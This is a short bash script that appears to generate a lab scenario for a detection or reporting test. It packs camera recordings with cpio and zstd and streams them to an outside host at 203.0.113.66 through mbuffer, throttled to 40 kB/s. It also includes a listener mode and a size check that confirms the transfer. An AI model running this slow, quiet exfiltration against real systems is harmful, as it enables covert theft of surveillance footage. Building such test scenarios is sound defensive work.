#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=cpio,zstd,mbuffer far=out ready=out:9009 seconds=40 parts=dns,camera-gate,recorder-gate,nas,outside-web
# cpio packs recordings, zstd presses them and mbuffer sends them outside, no faster than 40 kB/s.
if [ "$1" = out ]; then mkdir -p "$LAB/away"; exec timeout 70 mbuffer -q -m 1M -I 9009 -o "$LAB/away/all"; fi
sleep 12; cd "$LAB/recordings/gate" || exit 1
printf '00%d.mp4\n' 0 1 2 3 4 | cpio -o -H newc --quiet | zstd -q -c | timeout 34 mbuffer -q -m 1M -s 8k -R 40k -O 203.0.113.66:9009
sleep 5; [ "$(stat -c %s "$LAB/away/all")" -gt 400000 ]
